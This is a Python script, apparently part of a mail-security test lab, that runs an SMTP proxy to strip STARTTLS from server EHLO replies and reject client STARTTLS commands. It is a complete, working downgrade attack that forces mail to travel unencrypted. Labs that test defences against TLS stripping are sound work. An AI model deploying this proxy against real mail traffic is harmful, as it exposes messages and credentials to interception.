#!/usr/bin/env python3
"""A downgrade attacker for the lab: an SMTP proxy that removes STARTTLS from EHLO replies.

Usage: starttls_strip.py --pidfile FILE LISTEN_ADDR:PORT=BACKEND_ADDR:PORT [...]
Runs inside the danelab namespace only. Server replies are relayed reply by reply with any "250-STARTTLS" /
"250 STARTTLS" line removed (the last remaining line becomes the final one); a client that sends STARTTLS anyway
gets "502 5.5.1" from the proxy and the command never reaches the server.
"""
import argparse
import asyncio
import os
import signal


def split_hostport(s):
    host, _, port = s.rpartition(":")
    return host.strip("[]"), int(port)


def filter_reply(lines):
    kept = [l for l in lines if not (l[:3] == b"250" and l[4:].strip().upper() == b"STARTTLS")]
    if kept and len(kept) != len(lines) and kept[-1][3:4] == b"-":
        kept[-1] = kept[-1][:3] + b" " + kept[-1][4:]
    return kept


async def server_to_client(reader, writer):
    reply = []
    while True:
        line = await reader.readline()
        if not line:
            break
        reply.append(line)
        if len(line) >= 4 and line[3:4] == b"-":
            continue
        for l in filter_reply(reply):
            writer.write(l)
        reply = []
        await writer.drain()
    writer.close()


async def client_to_server(reader, writer, client_writer):
    while True:
        line = await reader.readline()
        if not line:
            break
        if line.strip().upper() == b"STARTTLS":
            client_writer.write(b"502 5.5.1 Error: command not implemented\r\n")
            await client_writer.drain()
            continue
        writer.write(line)
        await writer.drain()
    writer.close()


def handler(backend):
    async def handle(creader, cwriter):
        try:
            sreader, swriter = await asyncio.open_connection(*backend)
        except OSError:
            cwriter.write(b"421 4.3.0 backend unavailable\r\n")
            cwriter.close()
            return
        await asyncio.gather(server_to_client(sreader, cwriter), client_to_server(creader, swriter, cwriter),
                             return_exceptions=True)
    return handle


async def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--pidfile", required=True)
    ap.add_argument("pairs", nargs="+")
    args = ap.parse_args()
    servers = []
    for pair in args.pairs:
        listen, backend = pair.split("=")
        host, port = split_hostport(listen)
        servers.append(await asyncio.start_server(handler(split_hostport(backend)), host, port))
    with open(args.pidfile, "w") as f:
        f.write(f"{os.getpid()}\n")
    stop = asyncio.Event()
    loop = asyncio.get_running_loop()
    for sig in (signal.SIGTERM, signal.SIGINT):
        loop.add_signal_handler(sig, stop.set)
    await stop.wait()
    for s in servers:
        s.close()


if __name__ == "__main__":
    asyncio.run(main())
